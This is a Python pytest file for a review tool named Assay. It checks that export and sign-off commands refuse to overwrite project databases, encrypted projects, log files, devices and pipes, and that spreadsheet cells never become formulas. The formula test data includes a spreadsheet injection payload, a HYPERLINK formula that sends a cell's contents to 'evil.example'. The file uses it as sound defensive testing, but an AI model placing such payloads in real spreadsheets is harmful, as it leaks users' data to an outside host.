"""No writer of Assay destroys a project or signs what it did not write (issue 57, section 3; issue 56):
every output, the command line's and the window's, is refused over the open project, its write-ahead
log, shared memory or journal, another project (plain SQLite, or encrypted: random bytes to look at),
a file of another kind, a device or a pipe; a sign-off whose certificate cannot be written is not
recorded; no spreadsheet cell is a formula; a name too long, a suffix that says another format and a
mistyped project are each one sentence."""

from __future__ import annotations

import csv
import errno
import json
import os
import pathlib
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.destinations import protected_problem
from app.errors import InvalidInput
from app.ingest.datasets import import_dataset
from app.ingest.labels import import_labels
from app.project import PASSPHRASE_ENV, SAMPLE_DATASET, Project
from app.review.service import ReviewService
from models.vocabulary import Tag
from storage.audit import audit_entries
from storage.db import sqlite_path, url_for_path
from storage.signoffs import signoffs_in_force

from .test_destructive_input import _run

ANSWER = "contractnli-027"
PASSPHRASE = "correct horse battery staple"
ROOT = Path(__file__).parents[1]


def _subprocess(*argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "app.cli", *argv],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, **(env or {})},
    )


def _submitted(project: Project, answer_id: str = ANSWER, reviewer: str = "ana") -> None:
    service = ReviewService(project, reviewer)
    for point in service.open(answer_id).points:
        service.set_tag(answer_id, point.point.id, Tag.CORRECT)
    service.submit(answer_id)


def _state(project: Project) -> tuple[int, int]:
    """The sign-offs in force and the audit entries: what a refused command leaves as it was."""
    with project.sessions() as session:
        return len(signoffs_in_force(session)), len(list(audit_entries(session)))


@pytest.fixture
def reviewed(sample_project: Project) -> Project:
    """The sample project, ana's review of ANSWER submitted (not signed)."""
    _submitted(sample_project)
    return sample_project


@pytest.fixture(scope="module")
def _encrypted_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample imported into an encrypted (SQLCipher) project, as `assay --encrypt import` makes one."""
    path = tmp_path_factory.mktemp("encrypted") / "secret.assay"
    project = Project.open(url_for_path(path), PASSPHRASE)
    import_dataset(project.sessions, SAMPLE_DATASET)
    _submitted(project)
    project.close()
    return path


@pytest.fixture
def encrypted(_encrypted_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Project]:
    """An encrypted project of this test's own, open (so its write-ahead log is there), its passphrase
    in the environment for the commands run on it."""
    path = tmp_path / "secret.assay"
    shutil.copy(_encrypted_file, path)
    monkeypatch.setenv(PASSPHRASE_ENV, PASSPHRASE)
    project = Project.open(url_for_path(path), PASSPHRASE)
    yield project
    project.close()


def _other_encrypted(source: Path, tmp_path: Path) -> Path:
    """A second encrypted project, closed: no log beside it, and no header to tell it from noise."""
    copy = tmp_path / "other" / "client.assay"
    copy.parent.mkdir()
    shutil.copy(source, copy)
    assert not copy.read_bytes().startswith(b"SQLite format 3")
    return copy


# ---------------------------------------------------------------- sign-off certificates


def test_signoff_export_onto_the_projects_own_files_is_refused_and_signs_nothing(
    reviewed: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = sqlite_path(reviewed.url)
    assert path is not None and path.with_name(path.name + "-wal").exists()
    before = _state(reviewed)
    for target in (path.with_name(path.name + "-wal"), path, tmp_path / "." / path.name):
        status, out, err = _run(
            capsys, "--project", str(path), "signoff", ANSWER, "--reviewer", "ana", "--export", str(target)
        )
        assert status == 2 and out == "" and "writing there would" in err, (target, err)
    assert _state(reviewed) == before, "a refused sign-off was recorded"
    # Once refused, the same sign-off with a good file is recorded, its certificate written.
    cert = tmp_path / "cert.json"
    status, _, err = _run(capsys, "--project", str(path), "signoff", ANSWER, "--reviewer", "ana", "--export", str(cert))
    assert status == 0, err
    assert json.loads(cert.read_text())["record"]["answer"]["id"] == ANSWER
    assert _state(reviewed)[0] == before[0] + 1


def test_signoff_export_onto_shared_memory_is_refused_not_a_crash(reviewed: Project) -> None:
    """Truncating the shared memory a running SQLite maps ended in a Bus error."""
    path = sqlite_path(reviewed.url)
    assert path is not None
    shm = path.with_name(path.name + "-shm")
    assert shm.exists()
    done = _subprocess("--project", str(path), "signoff", ANSWER, "--reviewer", "ana", "--export", str(shm))
    assert done.returncode == 2 and "writing there would damage it" in done.stderr, done.stderr
    assert _state(reviewed)[0] == 0


def test_signoff_export_onto_another_projects_log_is_refused(
    reviewed: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Another project's write-ahead log (by its name), or a file with a log beside it (a database in use)."""
    in_use = tmp_path / "elsewhere.db"
    in_use.write_bytes(os.urandom(8192))
    (tmp_path / "elsewhere.db-wal").write_bytes(os.urandom(4096))
    before = _state(reviewed)
    for target, says in (
        (tmp_path / "elsewhere.db-wal", "named like a database's log file"),
        (tmp_path / "elsewhere.db-journal", "named like a database's log file"),
        (in_use, "a database's log file (elsewhere.db-wal) lies beside it"),
    ):
        status, _, err = _run(
            capsys, "--db", reviewed.url, "signoff", ANSWER, "--reviewer", "ana", "--export", str(target)
        )
        assert status == 2 and says in err, (target, err)
    assert _state(reviewed) == before


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_signoff_export_to_a_device_or_a_full_disk_signs_nothing(
    reviewed: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = _state(reviewed)
    for device in ("/dev/full", "/dev/zero", "/dev/null"):
        status, out, err = _run(
            capsys, "--db", reviewed.url, "signoff", ANSWER, "--reviewer", "ana", "--export", device
        )
        assert status == 2 and out == "" and "not a regular file" in err, err
    assert _state(reviewed) == before, "a sign-off was recorded though its certificate was never written"

    # A disk that fills while the certificate is written: the sign-off is undone, no half file is left.
    cert = tmp_path / "cert.json"
    real = pathlib.Path.write_text

    def full(self: Path, *args: object, **kwargs: object) -> int:
        if self == cert:
            raise OSError(errno.ENOSPC, "No space left on device", str(self))
        return real(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(pathlib.Path, "write_text", full)
    status, _, err = _run(capsys, "--db", reviewed.url, "signoff", ANSWER, "--reviewer", "ana", "--export", str(cert))
    assert status == 2 and "no space left on device" in err, err
    assert _state(reviewed) == before and not cert.exists()


# ---------------------------------------------------------------- encrypted projects


def test_no_writer_overwrites_an_encrypted_project(
    encrypted: Project, _encrypted_file: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = sqlite_path(encrypted.url)
    assert path is not None
    project = ["--project", str(path)]
    before = _state(encrypted)
    # The open encrypted project: SQLCipher writes no header, so only its path tells it.
    for target in (path, path.with_name(path.name + "-wal")):
        status, _, err = _run(capsys, *project, "signoff", ANSWER, "--reviewer", "ana", "--export", str(target))
        assert status == 2 and "writing there would" in err, err
    assert _state(encrypted) == before
    # Another encrypted project, closed: by its name, and renamed, by its bytes.
    other = _other_encrypted(_encrypted_file, tmp_path)
    renamed = other.with_name("client-copy")
    shutil.copy(other, renamed)
    kept = other.read_bytes()
    for target, says in ((other, "named like an Assay project"), (renamed, "it is an encrypted database")):
        for argv in (
            ["export", "--format", "csv", str(target)],
            ["export", "--format", "jsonl", str(target)],
            ["bundle", "export", str(target), "--reviewer", "ana"],
            ["audit", "export", str(target)],
            ["signoff", ANSWER, "--reviewer", "ana", "--export", str(target)],
        ):
            status, out, err = _run(capsys, *project, *argv)
            assert status == 2 and out == "" and says in err, (argv, err)
    assert other.read_bytes() == kept and renamed.read_bytes() == kept
    assert _state(encrypted) == before
    reopened = Project.open(url_for_path(other), PASSPHRASE)
    assert reopened.counts()["answers"] == encrypted.counts()["answers"]
    reopened.close()


def test_the_windows_writers_refuse_an_encrypted_project_too(
    encrypted: Project, _encrypted_file: Path, tmp_path: Path
) -> None:
    from app.export.formats import export
    from app.figures.comparison import export_regressions
    from app.review.team import export_bundle

    other = _other_encrypted(_encrypted_file, tmp_path)
    renamed = other.with_name("client.xlsx")
    shutil.copy(other, renamed)
    with pytest.raises(InvalidInput, match="encrypted database"):
        export(encrypted, "xlsx", renamed)
    with pytest.raises(InvalidInput, match="named like an Assay project"):
        export_bundle(encrypted, "ana", other)
    with pytest.raises(InvalidInput, match="encrypted database"):
        export_regressions({"a": "old", "b": "new", "regressions": []}, renamed)
    assert renamed.read_bytes() == other.read_bytes()


# ---------------------------------------------------------------- the guard itself


def test_the_guard_refuses_what_is_no_file_of_the_kind_written(tmp_path: Path) -> None:
    noise = tmp_path / "noise.bin"
    noise.write_bytes(os.urandom(3000))  # not whole pages: no SQLCipher look, still no text
    text = tmp_path / "old.csv"
    text.write_text("a,b\n1,2\n", encoding="utf-8")
    pdf = tmp_path / "old.pdf"
    pdf.write_bytes(b"%PDF-1.7\n" + os.urandom(600))
    plain = tmp_path / "plain.db"
    plain.write_bytes(b"SQLite format 3\x00" + bytes(4080))
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    assert protected_problem(text, None) is None  # an old export is written over
    assert protected_problem(pdf, None, "pdf") is None
    assert protected_problem(tmp_path / "new.csv", None) is None
    assert "not text but other data" in (protected_problem(noise, None, "text") or "")
    assert "not text but other data" in (protected_problem(pdf, None, "text") or "")
    assert "not a PDF" in (protected_problem(text, None, "pdf") or "")
    assert "it is a database" in (protected_problem(plain, None, "zip") or "")
    assert "named like an Assay project" in (protected_problem(tmp_path / "new.assay", None) or "")
    assert protected_problem(tmp_path / "new.assay", None, "project") is None  # a matter's export makes one
    assert "named like a database's log" in (protected_problem(tmp_path / "x.assay-shm", None) or "")
    assert "not a regular file" in (protected_problem(fifo, None) or "")
    assert "NUL" in (protected_problem(tmp_path / "a\x00b.csv", None) or "")  # the window's field lets one through


def test_export_to_a_pipe_is_refused_not_a_hang(sample_project: Project, tmp_path: Path) -> None:
    fifo = tmp_path / "points.csv"
    os.mkfifo(fifo)
    path = sqlite_path(sample_project.url)
    assert path is not None
    for argv in (["export", "--format", "csv", str(fifo)], ["audit", "export", str(fifo)]):
        done = _subprocess("--project", str(path), *argv)
        assert done.returncode == 2 and "not a regular file (a device or a pipe)" in done.stderr, done.stderr


def test_keys_export_refuses_the_project_and_devices(
    reviewed: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    db = ["--db", reviewed.url]
    assert _run(capsys, *db, "signoff", ANSWER, "--reviewer", "ana")[0] == 0
    status, out, _ = _run(capsys, *db, "keys", "--json")
    fingerprint = json.loads(out)[0]["fingerprint"]
    path = sqlite_path(reviewed.url)
    assert path is not None
    before = _state(reviewed)
    for target, says in (
        (path, "it is the open project"),
        (path.with_name(path.name + "-wal"), "writing there would damage it"),
        (Path("/dev/zero"), "not a regular file"),
    ):
        status, out, err = _run(capsys, *db, "keys", "export", fingerprint, str(target))
        assert status == 2 and out == "" and says in err, (target, err)
    assert _state(reviewed) == before
    assert path.read_bytes()[:16] == b"SQLite format 3\x00"
    status, _, err = _run(capsys, *db, "keys", "export", fingerprint, str(tmp_path / "ana.pem"))
    assert status == 0 and (tmp_path / "ana.pem").read_text().startswith("-----BEGIN PUBLIC KEY-----"), err


# ---------------------------------------------------------------- names: too long, the wrong suffix, new folders


def test_a_name_too_long_is_one_sentence(reviewed: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    long = tmp_path / ("x" * 300)
    before = _state(reviewed)
    for argv in (
        ["export", "--format", "csv", f"{long}.csv"],
        ["audit", "export", f"{long}.jsonl"],
        ["bundle", "export", f"{long}.json", "--reviewer", "ana"],
        ["signoff", ANSWER, "--reviewer", "ana", "--export", f"{long}.json"],
        ["export", "--format", "csv", f"{long}/points.csv"],
    ):
        status, out, err = _run(capsys, "--db", reviewed.url, *argv)
        assert status == 2 and out == "" and "the name is too long" in err, (argv, err)
        assert len(err.strip().splitlines()) == 1 and len(err) < 240, err
    assert _state(reviewed) == before


def test_a_suffix_that_says_another_format_is_refused(
    sample_project: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    db = ["--db", sample_project.url]
    for fmt, name in (("pdf", "x.txt"), ("csv", "x.xlsx"), ("xlsx", "x.csv"), ("report", "x.pdf")):
        status, _, err = _run(capsys, *db, "export", "--format", fmt, str(tmp_path / name))
        assert status == 2 and f"a {fmt} export is written to a" in err and f"not {Path(name).suffix}" in err, err
        assert not (tmp_path / name).exists()
    for fmt, name in (("csv", "points.CSV"), ("jsonl", "labels.json"), ("jsonl", "labels.jsonl"), ("csv", "points")):
        status, _, err = _run(capsys, *db, "export", "--format", fmt, str(tmp_path / name))
        assert status == 0 and (tmp_path / name).is_file(), err


def test_export_says_the_folder_it_made(
    sample_project: Project, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    out = tmp_path / "q3" / "firm" / "points.csv"
    status, said, err = _run(capsys, "--db", sample_project.url, "export", "--format", "csv", str(out))
    assert status == 0 and out.is_file(), err
    assert f"made the folder {out.parent}" in said
    status, said, _ = _run(capsys, "--db", sample_project.url, "export", "--format", "csv", str(out))
    assert status == 0 and "made the folder" not in said  # there now: nothing made, nothing said
    # A refused export makes no folder.
    status, _, _ = _run(
        capsys, "--db", sample_project.url, "export", "--format", "pdf", str(tmp_path / "new" / "x.txt")
    )
    assert status == 2 and not (tmp_path / "new").exists()


# ---------------------------------------------------------------- a mistyped project


def test_a_missing_project_is_said_and_not_made(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    typo = tmp_path / "TYPO.assay"
    for argv in (["info"], ["scores"], ["export", "--format", "csv", str(tmp_path / "x.csv")], ["audit", "verify"]):
        status, out, err = _run(capsys, "--project", str(typo), *argv)
        assert status == 2 and out == "" and "no such project" in err, (argv, err)
        assert f"{typo}:" in err
    assert not typo.exists() and not list(tmp_path.iterdir())
    status, _, err = _run(capsys, "--db", f"sqlite:///{typo}", "info")
    assert status == 2 and "no such project" in err and not typo.exists()
    assert _run(capsys, "--project", str(typo), "init")[0] == 0  # init makes it; then any command opens it
    status, out, _ = _run(capsys, "--project", str(typo), "info", "--json")
    assert status == 0 and json.loads(out)["answers"] == 0


# ---------------------------------------------------------------- spreadsheets: text, never a formula

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"open")', "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _labelled_with_formulas(project: Project, tmp_path: Path) -> None:
    points = [{"text": text, "tag": "missing", "comment": text} for text in FORMULAS]
    labels = tmp_path / "labels.jsonl"
    labels.write_text(json.dumps({"answer_id": ANSWER, "rater": "ana", "data_points": points}) + "\n")
    import_labels(project, labels)


def test_xlsx_cells_are_text_never_formulas(sample_project: Project, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from app.export.formats import export
    from app.figures.comparison import export_regressions

    _labelled_with_formulas(sample_project, tmp_path)
    book = load_workbook(export(sample_project, "xlsx", tmp_path / "set.xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    texts = {c.value: c.data_type for c in cells if isinstance(c.value, str)}
    for text in FORMULAS:
        assert texts.get(text) == "s", f"{text!r} is not kept as text"

    regression = {
        "question": "q",
        "document": "d",
        "answer_a": FORMULAS[0],
        "answer_b": "+1",
        "wrong_in_b": 1,
        "left_out_in_b": 0,
        "correctness_change": -0.5,
        "f1_change": -0.25,
        "lost": [{"a_text": "=1+1"}],
        "basis": "ana",
    }
    result = {"a": "old", "b": "new", "regressions": [regression]}
    sheet = load_workbook(export_regressions(result, tmp_path / "regressions.xlsx")).active
    assert sheet is not None
    row = [cell for cell in sheet[2]]
    assert all(cell.data_type != "f" for cell in row)
    assert row[3].value == FORMULAS[0] and row[3].data_type == "s"
    assert row[7].value == -0.5  # numbers stay numbers


def test_csv_cells_never_start_a_formula(sample_project: Project, tmp_path: Path) -> None:
    from app.export.formats import export

    _labelled_with_formulas(sample_project, tmp_path)
    with export(sample_project, "csv", tmp_path / "points.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], "a cell starts a formula"
    comments = {row["comment"] for row in rows if row["rater"] == "ana"}
    assert {"'" + text for text in FORMULAS} <= comments
